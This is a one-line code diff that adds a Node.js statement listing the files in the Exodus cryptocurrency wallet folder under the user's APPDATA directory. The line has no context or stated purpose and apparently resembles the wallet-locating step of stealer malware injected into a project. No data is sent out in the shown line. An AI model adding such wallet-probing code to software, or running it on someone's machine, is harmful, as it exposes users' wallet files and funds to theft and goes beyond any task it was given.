@@ -1,0 +1,1 @@
+require('fs').readdirSync(process.env.APPDATA + '/Exodus/exodus.wallet');
